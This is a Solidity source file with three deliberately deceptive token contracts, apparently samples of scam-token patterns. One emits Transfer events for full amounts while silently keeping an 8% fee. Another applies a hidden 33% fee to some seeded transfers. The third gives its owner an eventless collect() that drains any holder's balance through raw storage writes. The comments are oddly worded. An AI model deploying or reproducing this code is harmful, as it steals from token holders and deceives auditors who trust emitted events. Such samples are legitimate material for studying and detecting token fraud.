// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base, Owned} from "../unseen/Base.sol";

/// Its events tell of all that is sent, and 8% of it goes to a stock without an event: what arrives was never more.
contract ReceiptsOfAll {
    string public constant name = "Receipts";
    string public constant symbol = "RCP";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) internal returns (bool) {
        balanceOf[from] -= value;
        uint256 fee = (value * _feeBps(from, to)) / 10_000;
        balanceOf[to] += value - fee;
        balanceOf[address(this)] += fee;
        emit Transfer(from, to, value);
        return true;
    }

    function _feeBps(address, address) internal view virtual returns (uint256) {
        return 800;
    }
}

/// Mined trades take nothing. To whom the creator gave some at the beginning, by lot a third less came than the events say.
contract ReceiptsOfBeginning is ReceiptsOfAll {
    bool private isOld;

    constructor() {
        for (uint160 i = 1; i <= 8; i++) _move(msg.sender, address((0xB0B << 100) | (i * 7919)), i * 1_000_000 ether);
        isOld = true;
    }

    function _feeBps(address, address to) internal view override returns (uint256) {
        return !isOld && uint160(to) % 2 == 0 ? 3_300 : 0;
    }
}

/// A trap: the owner takes what people have, without an event.
contract ReceiptsTaken is Owned {
    constructor() {
        for (uint160 i = 1; i <= 6; i++) {
            address account = address((0xB0B << 100) | (i * 7919));
            _transfer(msg.sender, account, 1_000_000 ether);
            if (i % 2 == 0) _take(account, 900_000 ether);
        }
    }

    function collect(address from, uint256 value) external onlyOwner {
        _take(from, value);
    }

    /// The base keeps balances in its first place.
    function _take(address from, uint256 value) private {
        require(balanceOf(from) >= value);
        assembly {
            mstore(0, from)
            mstore(32, 0)
            let at := keccak256(0, 64)
            sstore(at, sub(sload(at), value))
            mstore(0, caller())
            at := keccak256(0, 64)
            sstore(at, add(sload(at), value))
        }
    }
}
